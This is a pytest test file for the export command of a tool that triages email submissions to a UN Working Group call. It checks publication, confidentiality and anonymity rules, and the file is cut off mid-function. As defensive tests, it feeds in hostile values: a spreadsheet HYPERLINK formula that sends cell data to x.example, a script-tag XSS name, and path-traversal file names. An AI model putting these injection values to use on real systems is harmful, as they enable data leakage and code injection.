"""export: SPEC's publication rules on the sample messages, the four formats against golden
files, the files to upload, and every way a confidential submission could slip out."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import shutil
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import (
    COMPANY,
    CONFIDENTIAL,
    DUPLICATE,
    FORWARDED,
    FRANCE,
    LATE_ANONYMOUS,
    LINK_ONLY,
    MEXICO,
    NHRI,
    REVISED,
    SUPERSEDED,
    golden,
    text_pdf,
    write_mail,
)
from conftest import FIXTURES as FIXTURES_DIR

Run = Callable[..., Result]


def export(run: Run, *args: str) -> dict[str, Any]:
    result = run("export", "--format", "json", *args)
    assert result.exit_code == 0, result.output
    data: dict[str, Any] = json.loads(result.stdout)
    return data


def entries(data: dict[str, Any]) -> dict[int, dict[str, Any]]:
    return {e["id"]: e for g in data["groups"] for e in g["entries"]}


@pytest.mark.parametrize("fmt", ["json", "csv", "md", "html"])
def test_each_format_matches_its_golden_file(run: Run, samples: Path, fmt: str) -> None:
    result = run("export", "--format", fmt)
    assert result.exit_code == 0, result.output
    golden(f"export.{fmt}", result.stdout)


@pytest.mark.parametrize("language", ["fr", "es"])
@pytest.mark.parametrize("fmt", ["md", "html"])
def test_the_page_in_french_and_spanish_matches_its_golden_file(
    run: Run, samples: Path, config_path: Path, fmt: str, language: str
) -> None:
    """GIVEN the page's language set to French or Spanish
    WHEN the page is exported
    THEN its deadline, its groups' titles and its links read in that language, as the
    golden file shows, while the json keeps ISO 8601."""
    with config_path.open("a") as config:
        config.write(f'\n[publication]\nlanguage = "{language}"\n')
    result = run("export", "--format", fmt)
    assert result.exit_code == 0, result.output
    golden(f"export_{language}.{fmt}", result.stdout)
    data = export(run)
    assert data["call"]["deadline"] == "2020-03-17T23:59:59.999+01:00"


def test_json_is_specs_shape_and_follows_the_rules(run: Run, samples: Path) -> None:
    data = export(run)
    assert set(data) == {"call", "groups"}
    assert data["call"] == {
        "title": "The role of private military and security companies in immigration and "
        "border management",
        "deadline": "2020-03-17T23:59:59.999+01:00",
    }
    assert [g["title"] for g in data["groups"]] == ["Member States", "Other stakeholders"]
    for group in data["groups"]:
        for entry in group["entries"]:
            assert set(entry) == {"id", "name", "country", "files"}
        names = [e["name"] for e in group["entries"]]
        assert names == sorted(names, key=str.casefold)
    published = entries(data)
    # Superseded, confidential, late, duplicate and auto-reply are left out.
    assert set(published) == {FRANCE, FORWARDED, NHRI, COMPANY, REVISED, MEXICO, LINK_ONLY}
    states = {e["id"] for e in data["groups"][0]["entries"]}
    assert states == {FRANCE, MEXICO}
    assert published[MEXICO] == {
        "id": MEXICO,
        "name": "Mexico",
        "country": "MEX",
        "files": ["Mexico.pdf", "Mexico-2.docx"],
    }
    assert published[LINK_ONLY]["files"] == []  # needs_download: nothing to copy


def test_late_ones_only_with_include_late_and_the_anonymous_stays_anonymous(
    run: Run, samples: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "300")
    assert LATE_ANONYMOUS not in entries(export(run))
    run("triage", str(LATE_ANONYMOUS), "--type", "nhri", "--country", "MEX")
    late = entries(export(run, "--include-late"))[LATE_ANONYMOUS]
    assert late["name"] == "Anonymous submission"
    assert late["country"] is None  # one NHRI per country: the country would name it
    # Its text is in the body, signed "Jordan": no file is made of it; the officer is told.
    assert late["files"] == []
    assert "make a file without the name" in run("export", "--dry-run", "--include-late").stdout
    for fmt in ("csv", "md", "html"):
        text = run("export", "--include-late", "--format", fmt).stdout
        assert "Anonymous submission" in text and "Jordan" not in text
    listed = json.loads(run("list", "--json").stdout)
    assert next(i for i in listed if i["id"] == LATE_ANONYMOUS)["submitter"]["name"] == (
        "Jordan Smith"
    )


def test_dry_run_gives_every_submission_its_verdict_and_writes_nothing(
    run: Run, samples: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "200")  # a row a line
    run("triage", str(COMPANY), "--withhold", "asked by phone to wait")
    target = tmp_path / "x.json"
    result = run("export", "--dry-run", "--files", str(tmp_path / "up"), "-o", str(target))
    assert result.exit_code == 0, result.output
    rows = [line.split(maxsplit=1) for line in result.stdout.splitlines()]
    # Times as people write them ("16 Mar 2020 14:03"), in the call's time zone.
    dated = re.compile(r"\d{1,2} [A-Z][a-z]{2} 2020 \d\d:\d\d")
    lines = {int(r[0]): r[1] for r in rows if r[:1] and r[0].isdigit() and dated.match(r[1])}
    assert len(lines) == 11  # every submission, not the auto-reply
    assert "deadline 17 March 2020" in result.stdout and "T23:59" not in result.stdout
    assert "superseded by #10" in lines[SUPERSEDED]
    assert "confidential" in lines[CONFIDENTIAL]
    assert "late" in lines[LATE_ANONYMOUS]
    assert "duplicate of #1" in lines[DUPLICATE]
    assert "withheld: asked by phone" in result.stdout
    assert "published" in lines[MEXICO] and "needs_download" in result.stdout
    assert not (tmp_path / "up").exists() and not target.exists()


def test_an_officers_withhold_and_decisions_change_what_is_published(
    run: Run, samples: Path
) -> None:
    assert run("triage", str(COMPANY), "--withhold", "duplicate of a letter").exit_code == 0
    assert run("triage", str(FRANCE), "--confidentiality", "confidential").exit_code == 0
    assert run("triage", str(CONFIDENTIAL), "--confidentiality", "publish").exit_code == 0
    published = entries(export(run))
    assert COMPANY not in published and FRANCE not in published
    assert CONFIDENTIAL in published  # the officer checked with the author
    # Tags never change it.
    assert run("tag", "hold", str(NHRI)).exit_code == 0
    assert NHRI in entries(export(run))


def test_a_states_entry_is_its_un_short_name_and_groups_follow_the_type(
    run: Run, samples: Path
) -> None:
    run("triage", str(FORWARDED), "--type", "member_state", "--country", "BOL",
        "--name", "Permanent Mission of the Plurinational State of Bolivia")  # fmt: skip
    run("triage", str(MEXICO), "--type", "civil_society", "--name", "Centro PRODH")
    data = export(run)
    states = {e["id"]: e for e in data["groups"][0]["entries"]}
    assert states[FORWARDED]["name"] == "Bolivia (Plurinational State of)"
    assert states[FORWARDED]["files"] == ["Bolivia-Plurinational-State-of.docx"]
    others = {e["id"]: e for e in data["groups"][1]["entries"]}
    assert others[MEXICO]["name"] == "Centro PRODH"
    assert others[MEXICO]["files"] == ["Centro-PRODH.pdf", "Centro-PRODH-2.docx"]


def test_unspecified_follows_the_config(run: Run, samples: Path, config_path: Path) -> None:
    config_path.write_text(config_path.read_text() + '\n[publication]\nunspecified = "withhold"\n')
    published = entries(export(run))
    # France and the revised Border Watch say neither publish nor confidential.
    assert FRANCE not in published and REVISED not in published
    assert MEXICO in published


def test_files_are_the_published_documents_byte_for_byte_under_unique_names(
    run: Run, samples: Path, tmp_path: Path
) -> None:
    # Two submitters with one name, and names no file system would take as they are.
    run("triage", str(FORWARDED), "--name", "SecureCorp Ltd")
    run("triage", str(NHRI), "--name", "../../CON")
    folder = tmp_path / "upload"
    result = run("export", "--files", str(folder), "-o", str(tmp_path / "inputs.json"))
    assert result.exit_code == 0, result.output
    data = json.loads((tmp_path / "inputs.json").read_text("utf-8"))
    listed = {e["id"]: e["files"] for e in entries(data).values()}
    assert listed[FORWARDED] == ["SecureCorp-Ltd.docx"]
    assert listed[COMPANY] == ["SecureCorp-Ltd-2.docx"]
    assert listed[NHRI] == ["CON_.pdf"]
    written = sorted(p.name for p in folder.iterdir())
    assert written == sorted(name for names in listed.values() for name in names)
    assert all(p.parent == folder for p in folder.rglob("*"))
    # Each copy is the stored attachment itself; nothing of a left-out submission is there.
    items = {i["id"]: i for i in json.loads(run("list", "--json", "--all").stdout)}
    digests = {hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.iterdir()}
    for message_id, names in listed.items():
        expected = {a["sha256"] for a in items[message_id]["attachments"]}
        assert len(names) == len(expected) and expected <= digests
    for left_out in (CONFIDENTIAL, SUPERSEDED, DUPLICATE):
        for a in items[left_out]["attachments"]:
            if a["sha256"] not in {x["sha256"] for x in items[REVISED]["attachments"]}:
                assert a["sha256"] not in digests


def test_files_never_go_into_a_folder_that_holds_anything(
    run: Run, samples: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "upload"
    folder.mkdir()
    (folder / "France.docx").write_bytes(b"an earlier export")
    result = run("export", "--files", str(folder))
    assert result.exit_code == 2
    assert result.stderr == f"Error: --files: {folder} must be a new or empty folder\n"
    assert (folder / "France.docx").read_bytes() == b"an earlier export"


def test_csv_cells_never_start_a_formula(run: Run, samples: Path) -> None:
    hostile = {
        FRANCE: '=HYPERLINK("http://x.example/?"&A1,"click")',
        NHRI: "+1+1",
        COMPANY: "-2+3",
        REVISED: "@SUM(A1)",
    }
    for message_id, name in hostile.items():
        run("triage", str(message_id), "--type", "civil_society", "--name", name)
    rows = list(csv.DictReader(io.StringIO(run("export", "--format", "csv").stdout)))
    names = {int(r["id"]): r["name"] for r in rows}
    for message_id, name in hostile.items():
        assert names[message_id] == "'" + name
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


def test_html_and_markdown_escape_every_value(run: Run, samples: Path) -> None:
    run("triage", str(COMPANY), "--name", '<script>alert("x")</script> & <b>Co</b>')
    html = run("export", "--format", "html").stdout
    assert "<script" not in html and "<b>" not in html
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt; &amp; &lt;b&gt;Co&lt;/b&gt;" in html
    md = run("export", "--format", "md").stdout
    assert r"\<script>alert(\"x\")" not in md  # quotes are no markup
    assert r"\<script>" in md and r"\<b>Co\</b>" in md  # no tag opens without its "<"
    assert " & " in md and r"\&" not in md  # an ampersand is no markup


def test_require_reviewed_refuses_until_an_officer_confirmed_each_one(
    run: Run, samples: Path
) -> None:
    refused = run("export", "--require-reviewed")
    assert refused.exit_code == 1
    assert "not confirmed by an officer" in refused.stderr
    assert f"#{MEXICO} " in refused.stderr and f"#{CONFIDENTIAL} " not in refused.stderr
    assert refused.stdout == ""
    assert run("triage", "--auto").exit_code == 0  # suggestions kept are not a review
    assert run("export", "--require-reviewed").exit_code == 1
    for v in entries(export(run)).values():
        run("triage", str(v["id"]), "--name", v["name"], "--confidentiality", "publish")
    result = run("export", "--require-reviewed", "--format", "json")
    assert result.exit_code == 0, result.output


def test_output_file_takes_its_format_from_the_extension(
    run: Run, samples: Path, tmp_path: Path
) -> None:
    for suffix, starts in ((".html", "<section"), (".md", "# "), (".csv", "group,id")):
        target = tmp_path / f"inputs{suffix}"
        assert run("export", "-o", str(target)).exit_code == 0
        assert target.read_text("utf-8").startswith(starts)
    unknown = run("export", "-o", str(tmp_path / "inputs.txt"))
    assert unknown.exit_code == 2 and "give --format" in unknown.stderr
    assert run("export", "-o", str(tmp_path / "inputs.txt"), "--format", "md").exit_code == 0
    # A wrong place for the list is found before any file is copied.
    upload = tmp_path / "upload"
    missing = run("export", "-o", str(tmp_path / "no" / "inputs.json"), "--files", str(upload))
    assert missing.exit_code == 2
    assert missing.stderr.startswith("Error:") and len(missing.stderr.splitlines()) == 1
    assert not upload.exists()


def test_export_without_a_store_is_one_line(run: Run) -> None:
    result = run("export")
    assert result.exit_code == 1
    assert "no store" in result.stderr and "Traceback" not in result.output


def test_readers_do_not_wait_for_a_writer(run: Run, samples: Path) -> None:
    from wgsubmit.store import Store

    with Store.open_for_writing(samples, "wgsubmit fetch"):
        assert run("export").exit_code == 0
        assert run("stats").exit_code == 0


def test_only_documents_are_published_a_zip_by_its_members(run: Run, tmp_path: Path) -> None:
    import email.policy
    import zipfile
    from email.message import EmailMessage

    png = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + b"\0" * 20
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("annex/Annex 1.pdf", text_pdf("Annex one of the coalition's submission."))
        z.writestr("annex/photo.png", png)
    msg = EmailMessage(policy=email.policy.SMTP)
    msg["From"] = "Ana Ruiz <ana@coalicion.example.org>"
    msg["To"] = "wg-submissions@example.org"
    msg["Subject"] = "Submission of the Coalición por la Frontera"
    msg["Date"] = "Mon, 16 Mar 2020 10:00:00 +0000"
    msg["Received"] = "from x by y; Mon, 16 Mar 2020 10:00:05 +0000"
    msg["Message-ID"] = "<docs-1@coalicion.example.org>"
    msg.set_content(
        "Please find attached the submission of the Coalición por la Frontera and its "
        "annexes. We agree to its publication.\n\nAna Ruiz\nCoalición por la Frontera\n"
    )
    msg.add_related(png, maintype="image", subtype="png", cid="<logo@coalicion>")
    msg.add_attachment(
        text_pdf("Submission of the Coalicion por la Frontera on private security at borders."),
        maintype="application", subtype="pdf", filename="../../submission.pdf",
    )  # fmt: skip
    msg.add_attachment(archive.getvalue(), maintype="application", subtype="zip",
                       filename="annexes.zip")  # fmt: skip
    msg.add_attachment(png, maintype="image", subtype="png", filename="image001.png")
    msg.add_attachment(b"0\x82", maintype="application", subtype="pkcs7-signature",
                       filename="smime.p7s")  # fmt: skip
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "m.eml").write_bytes(msg.as_bytes())
    assert run("import", str(folder)).exit_code == 0
    [item] = json.loads(run("list", "--json").stdout)
    assert item["confidentiality"] == "publish", item["confidentiality_evidence"]
    run("triage", str(item["id"]), "--name", "Coalición por la Frontera")
    upload = tmp_path / "upload"
    data = export(run, "--files", str(upload))
    [entry] = entries(data).values()
    stem = "Coalicion-por-la-Frontera"
    assert entry["files"] == [f"{stem}.pdf", f"{stem}-2.pdf"]
    assert sorted(p.name for p in upload.iterdir()) == sorted(entry["files"])
    assert (upload / f"{stem}-2.pdf").read_bytes().startswith(b"%PDF")


def test_a_message_without_a_time_waits_for_the_officer_to_set_one(
    run: Run, tmp_path: Path
) -> None:
    folder = tmp_path / "in"
    write_mail(folder, "Centro de Estudios <info@centro.example.org>",
               "Submission to the call on private security at borders",
               "Our submission to the Working Group, which may be published, is below. "
               + "Private security companies guard detention centres. " * 30
               + "\n\nCentro de Estudios\n",
               received=None, message_id="<no-time@centro.example.org>")  # fmt: skip
    assert run("import", str(folder)).exit_code == 0
    [item] = json.loads(run("list", "--json").stdout)
    assert item["received_at"] is None and "no_received_time" in item["flags"]
    assert "no received time" in run("export", "--dry-run").stdout
    assert entries(export(run)) == {}
    bad = run("triage", str(item["id"]), "--received", "yesterday")
    assert bad.exit_code == 2 and "--received" in bad.stderr
    assert run("triage", str(item["id"]), "--received", "2020-03-16 14:03").exit_code == 0
    assert run("reprocess").exit_code == 0  # an officer's time stays
    [item] = json.loads(run("list", "--json").stdout)
    assert item["received_at"] == "2020-03-16T13:03:00+00:00"  # Geneva is UTC+1 in March
    assert item["on_time"] is True and "no_received_time" not in item["flags"]
    upload = tmp_path / "upload"
    [entry] = entries(export(run, "--files", str(upload))).values()
    # A submission sent in the body is published as its text.
    assert entry["files"] == ["Centro-de-Estudios.txt"]
    text = (upload / "Centro-de-Estudios.txt").read_text("utf-8")
    assert text.startswith("Our submission to the Working Group") and "guard detention" in text
    assert "received_at" in run("show", str(item["id"])).stdout


def test_a_later_request_for_confidentiality_takes_a_submission_off_the_list(
    run: Run, samples: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert COMPANY in entries(export(run))
    folder = tmp_path / "later"
    write_mail(folder, "SecureCorp Compliance <compliance@securecorp.example.com>",
               "Re: SecureCorp input to the Working Group",
               "Dear Working Group,\n\nFurther to our submission of 5 March, please treat it "
               "as confidential and do not publish it.\n\nCompliance Department\n",
               received="Sun, 15 Mar 2020 09:00:02 +0000",
               date="Sun, 15 Mar 2020 09:00:00 +0000",
               message_id="<sc-amend@securecorp.example.com>")  # fmt: skip
    assert run("import", str(folder)).exit_code == 0
    assert COMPANY not in entries(export(run))
    monkeypatch.setenv("COLUMNS", "200")
    row = next(
        line for line in run("export", "--dry-run").stdout.splitlines()
        if line.split()[:1] == [str(COMPANY)]
    )  # fmt: skip
    assert "confidential" in row
    assert "later asks: confidential" in run("export", "--dry-run").stdout


def dry_run(run: Run, *args: str) -> dict[int, str]:
    """Each submission's row of `export --dry-run`, notes included."""
    result = run("export", "--dry-run", *args)
    assert result.exit_code == 0, result.output
    rows: dict[int, str] = {}
    current = None
    for line in result.stdout.splitlines():
        first = line.split()[:1]
        if first and first[0].isdigit() and line[:5].strip().isdigit():
            current = int(first[0])
            rows[current] = line
        elif current is not None and line.startswith(" "):
            rows[current] += " " + line.strip()
    return rows


def test_a_request_for_confidentiality_after_an_officers_publish_still_stands(
    run: Run, samples: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "300")
    assert run("triage", str(COMPANY), "--confidentiality", "publish").exit_code == 0
    write_mail(tmp_path / "later", "SecureCorp Compliance <compliance@securecorp.example.com>",
         "Re: SecureCorp input", "Further to our submission of 5 March, please treat it as "
         "confidential and do not publish it.\n\nCompliance Department\n")  # fmt: skip
    assert run("import", str(tmp_path / "later")).exit_code == 0
    assert COMPANY not in entries(export(run))
    assert "amended  confidentiality: publish → confidential" in run("show", str(COMPANY)).stdout
    assert "confidential" in dry_run(run)[COMPANY]
    # Having read it, the officer may still decide otherwise (later: times are to the second).
    time.sleep(1.1)
    assert run("triage", str(COMPANY), "--confidentiality", "publish").exit_code == 0
    assert run("reprocess").exit_code == 0
    assert COMPANY in entries(export(run))


def test_a_revised_version_of_a_confidential_submission_waits_for_an_officer(
    run: Run, samples: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "300")
    write_mail(tmp_path / "rev", '"Lucía Fernández" <lfernandez@derecho.uni-ejemplo.es>',
         "Versión revisada de nuestra contribución",
         "Estimados miembros del Grupo de Trabajo:\n\nAdjunto la versión revisada de nuestra "
         "contribución, que reemplaza la enviada anteriormente.\n\nLucía Fernández\n",
         received="Tue, 17 Mar 2020 22:45:00 +0000",  # after the first (22:30)
         files=(("Contribucion_revisada.pdf", "application/pdf",
                 text_pdf("Contribucion revisada sobre las empresas de seguridad.")),))  # fmt: skip
    assert run("import", str(tmp_path / "rev")).exit_code == 0
    [revision] = [i for i in json.loads(run("list", "--json").stdout) if i["id"] > LINK_ONLY]
    assert revision["confidentiality"] != "confidential"
    assert (
        json.loads(run("show", "--json", str(CONFIDENTIAL)).stdout)["superseded_by"]
        == (revision["id"])
    )
    assert revision["id"] not in entries(export(run))
    assert f"an earlier version (#{CONFIDENTIAL}) is confidential" in dry_run(run)[revision["id"]]
    run("triage", str(revision["id"]), "--confidentiality", "publish")
    assert revision["id"] in entries(export(run))


def test_a_partly_confidential_submission_waits_until_its_annex_is_withheld(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "300")
    write_mail(tmp_path / "in", "Red Fronteras <info@redfronteras.example.org>",
         "Contribution of Red Fronteras",
         "Dear Working Group,\n\nPlease find attached our contribution and its annex. "
         "Annex 2 contains testimonies and must remain confidential; the main submission may "
         "be published.\n\nRed Fronteras\n",
         files=(("Contribution.pdf", "application/pdf", text_pdf("Our contribution on borders.")),
                ("Annex_cases.pdf", "application/pdf", text_pdf("Case 1: a name."))))  # fmt: skip
    assert run("import", str(tmp_path / "in")).exit_code == 0
    [item] = json.loads(run("list", "--json").stdout)
    assert item["confidentiality"] == "confidential" and "partial_confidential" in item["flags"]
    run("triage", str(item["id"]), "--confidentiality", "publish")  # the officer read it
    assert entries(export(run)) == {}
    assert "--withhold-file N" in dry_run(run)[item["id"]]
    bad = run("triage", str(item["id"]), "--withhold-file", "9")
    assert bad.exit_code == 2 and "no attachment 9" in bad.stderr
    assert run("triage", str(item["id"]), "--withhold-file", "2").exit_code == 0
    assert run("reprocess").exit_code == 0  # kept by content across a re-read
    upload = tmp_path / "upload"
    assert entries(export(run, "--files", str(upload)))[item["id"]]["files"] == [
        "Red-Fronteras.pdf"
    ]
    assert b"Case 1" not in b"".join(p.read_bytes() for p in upload.iterdir())
    assert "Annex_cases.pdf (withheld)" in run("show", str(item["id"])).stdout
    assert next(
        a for a in json.loads(run("show", "--json", str(item["id"])).stdout)["attachments"]
        if a["filename"] == "Annex_cases.pdf"
    )["withheld"]  # fmt: skip


def test_only_documents_are_copied_and_the_rest_is_said(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "300")
    consent = "We agree to the publication of our submission.\n\n"
    long_text = "Private security companies run detention centres at the border. " * 30
    png = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + b"\0" * 20
    encrypted = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(encrypted, "w") as z:
        z.writestr("submission.pdf", b"%PDF-1.4 not really")
    data = bytearray(encrypted.getvalue())
    for header, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(header) + flags_at] |= 0x1  # the member says it is encrypted
    folder = tmp_path / "in"
    write_mail(folder, "A <a@one.example.org>", "Submission of One", consent + "One\n",
         files=(("sub.pdf", "application/pdf", text_pdf("One's submission.")),
                ("page.html", "text/html", b"<script>alert(1)</script><p>x</p>"),
                ("tool.exe", "application/octet-stream", b"MZ\x90\x00binary")))  # fmt: skip
    write_mail(folder, "B <b@two.example.org>", "Submission of Two",
               consent + long_text + "\nTwo\n",
               files=(("image001.png", "image/png", png),))  # fmt: skip
    write_mail(folder, "C <c@three.example.org>", "Submission of Three", consent + "Three\n",
         files=(("annexes.zip", "application/zip", bytes(data)),))  # fmt: skip
    assert run("import", str(folder)).exit_code == 0
    listed = {i["from"]["address"]: i for i in json.loads(run("list", "--json").stdout)}
    ids = {address: item["id"] for address, item in listed.items()}
    # A program and an encrypted archive member could not be read: unclear, for an officer.
    assert listed["a@one.example.org"]["confidentiality"] == "unclear"
    assert "tool.exe" in listed["a@one.example.org"]["confidentiality_evidence"]
    assert listed["c@three.example.org"]["confidentiality"] == "unclear"
    assert listed["b@two.example.org"]["confidentiality"] == "publish"
    for address, name in (("a@one.example.org", "One"), ("b@two.example.org", "Two"),
                          ("c@three.example.org", "Three")):  # fmt: skip
        run("triage", str(ids[address]), "--type", "civil_society", "--name", name,
            "--confidentiality", "publish")  # fmt: skip
    published = entries(export(run))
    assert published[ids["a@one.example.org"]]["files"] == ["One.pdf"]
    assert published[ids["b@two.example.org"]]["files"] == ["Two.txt"]  # its text, not a logo
    assert published[ids["c@three.example.org"]]["files"] == []  # no cover note instead
    rows = dry_run(run)
    assert (
        "not copied: page.html (html file), tool.exe (other file)" in rows[ids["a@one.example.org"]]
    )
    assert (
        "annexes.zip (an archive with no document read from it)" in rows[ids["c@three.example.org"]]
    )


def test_the_officer_is_told_what_to_check(
    run: Run, samples: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "300")
    run("triage", str(FORWARDED), "--type", "member_state", "--name", "Permanent Mission of X")
    # Another company sends SecureCorp's document as its own.
    same = (FIXTURES_DIR / "09-company-en-html.eml").read_bytes()
    resent = same.replace(b"compliance@securecorp.example.com", b"office@guards.example.com")
    resent = resent.replace(b"<sc-2020-0305@securecorp", b"<g-1@guards")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "x.eml").write_bytes(resent)
    assert run("import", str(folder)).exit_code == 0
    rows = dry_run(run)
    assert "a State without a country" in rows[FORWARDED]
    assert "published" in rows[LINK_ONLY + 1]
    assert f"SecureCorp_input.docx is the same document as #{COMPANY}'s" in rows[LINK_ONLY + 1]


def test_received_is_for_a_message_without_a_server_time(run: Run, samples: Path) -> None:
    for value in ("2020-03-16", "9999-12-31T23:59:59-01:00", "soon"):
        result = run("triage", str(NHRI), "--received", value)
        assert result.exit_code == 2 and result.stderr.startswith("Error: --received")
    refused = run("triage", str(FRANCE), "--received", "2020-03-18 09:00")
    assert refused.exit_code == 2 and "is not changed" in refused.stderr
    assert run("triage", str(NHRI), "--received", "2020-03-18 09:00").exit_code == 0
    assert NHRI not in entries(export(run))  # now late


def test_an_anonymous_document_that_names_its_author_is_not_copied(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "300")
    ask = "Here is my submission. You may publish it, but please do not publish my name.\n\nSam\n"
    write_mail(tmp_path / "in", '"Samira Haddad" <s.haddad@mail.example.net>', "My submission", ask,
         files=(("input.pdf", "application/pdf",
                 text_pdf("Testimony of a former guard, by Samira Haddad.")),))  # fmt: skip
    write_mail(tmp_path / "in", '"Omar Reyes" <o.reyes@mail.example.net>', "Submission", ask,
         files=(("input.pdf", "application/pdf", text_pdf("Testimony of a guard.")),))  # fmt: skip
    assert run("import", str(tmp_path / "in")).exit_code == 0
    items = {i["from"]["address"]: i for i in json.loads(run("list", "--json").stdout)}
    assert all("anonymous" in i["flags"] for i in items.values())
    named, unnamed = (
        items["s.haddad@mail.example.net"]["id"],
        items["o.reyes@mail.example.net"]["id"],
    )
    upload = tmp_path / "upload"
    published = entries(export(run, "--files", str(upload)))
    assert published[named]["files"] == [] and published[named]["name"] == "Anonymous submission"
    assert published[unnamed]["files"] == ["Anonymous-submission.pdf"]
    assert "documents name the author, not copied: input.pdf" in dry_run(run)[named]
    assert b"Haddad" not in b"".join(p.read_bytes() for p in upload.iterdir())


OFFICER_ACTIONS = st.one_of(
    st.tuples(st.just("--confidentiality"), st.sampled_from(["publish", "confidential",
                                                              "unspecified"])),
    st.tuples(st.just("--kind"), st.sampled_from(["submission", "not_submission"])),
    st.tuples(st.just("--withhold"), st.just("asked to wait")),
    st.tuples(st.just("--supersedes"), st.integers(1, 12).map(str)),
    st.tuples(st.just("--not-superseded")),
    st.tuples(st.just("--withhold-file"), st.sampled_from(["1", "2"])),
    st.tuples(st.just("--type"), st.sampled_from(["member_state", "nhri", "individual"])),
)  # fmt: skip


@given(
    decisions=st.lists(st.tuples(st.integers(1, 12), OFFICER_ACTIONS), max_size=10),
    late=st.booleans(),
)
@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])  # fmt: skip
def test_whatever_officers_decide_nothing_left_out_is_exported(
    sample_store: Path, decisions: list[tuple[int, tuple[str, ...]]], late: bool
) -> None:
    from click.testing import CliRunner

    from wgsubmit.cli import cli

    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        shutil.copytree(sample_store, root / "store")
        config = root / "config.toml"
        config.write_text((sample_store.parent / "config.toml").read_text(), encoding="utf-8")

        def run(*args: str) -> Result:
            return CliRunner().invoke(cli, ["--config", str(config), *args])

        for message_id, action in decisions:
            assert run("triage", str(message_id), *action).exit_code in (0, 2)
        upload = root / "upload"
        result = run("export", "--format", "json", "--files", str(upload),
                     *(["--include-late"] if late else []))  # fmt: skip
        assert result.exit_code == 0, result.output
        published = entries(json.loads(result.stdout))
        items = {i["id"]: i for i in json.loads(run("list", "--json", "--all").stdout)}

        def may_publish(item: dict[str, Any]) -> bool:
            return (
                item["kind"] == "submission"
                and item["confidentiality"] in ("publish", "unspecified")
                and item["superseded_by"] is None
                and item["duplicate_of"] is None
                and item["withhold_reason"] is None
                and (item["on_time"] is True or (late and item["on_time"] is False))
            )

        for message_id in published:
            assert may_publish(items[message_id]), items[message_id]
        allowed = {
            a["sha256"]
            for i in items.values()
            if i["id"] in published and may_publish(i)
            for a in i["attachments"]
            if not a["withheld"]
        }
        copied = {hashlib.sha256(p.read_bytes()).hexdigest() for p in upload.glob("*")}
        texts = {f for e in published.values() for f in e["files"] if f.endswith(".txt")}
        assert len(copied - allowed) <= len(texts)  # only a body-only submission's own text


def test_export_waits_while_messages_are_not_read_again(run: Run, samples: Path) -> None:
    from wgsubmit.store import Store

    with Store.open_for_writing(samples) as store:
        store.read_all_again()  # as a reprocess killed right after it began
    refused = run("export")
    assert refused.exit_code == 1 and "not read yet" in refused.stderr
    assert refused.stdout == ""
    assert run("-q", "reprocess").exit_code == 0
    assert set(entries(export(run))) == {FRANCE, FORWARDED, NHRI, COMPANY, REVISED, MEXICO,
                                         LINK_ONLY}  # fmt: skip


def test_a_withheld_archive_withholds_its_files_and_text_data_is_not_published(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import zipfile

    monkeypatch.setenv("COLUMNS", "300")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("Annex_cases.pdf", text_pdf("Case 1: a name."))
    write_mail(tmp_path / "in", "Red Fronteras <info@redfronteras.example.org>",
         "Contribution of Red Fronteras",
         "Dear Working Group,\n\nPlease find attached our contribution and its annexes. "
         "Annex 2 contains testimonies and must remain confidential; the main submission may "
         "be published.\n\nRed Fronteras\n",
         files=(("Contribution.pdf", "application/pdf", text_pdf("Our contribution.")),
                ("Annexes.zip", "application/zip", archive.getvalue()),
                ("contacts.csv", "text/csv", b"name,phone\nAna,+1 555 0100\n")))  # fmt: skip
    assert run("import", str(tmp_path / "in")).exit_code == 0
    [item] = json.loads(run("list", "--json").stdout)
    refused = run("triage", str(item["id"]), "--withhold-file", "2", "--supersedes", "999")
    assert refused.exit_code == 2  # nothing of it was applied
    assert not any(
        a["withheld"] for a in json.loads(run("list", "--json").stdout)[0]["attachments"]
    )
    run("triage", str(item["id"]), "--confidentiality", "publish", "--withhold-file", "2")
    upload = tmp_path / "upload"
    assert entries(export(run, "--files", str(upload)))[item["id"]]["files"] == [
        "Red-Fronteras.pdf"
    ]
    row = dry_run(run)[item["id"]]
    assert (
        "Annex_cases.pdf (withheld)" in row and "contacts.csv (text that is not a document)" in row
    )
    # An officer's mistake can be undone; with nothing withheld it waits again.
    assert run("triage", str(item["id"]), "--keep-file", "2").exit_code == 0
    assert item["id"] not in entries(export(run))
    assert "partly confidential" in dry_run(run)[item["id"]]


def _with_script_and_author(text: str, author: str) -> bytes:
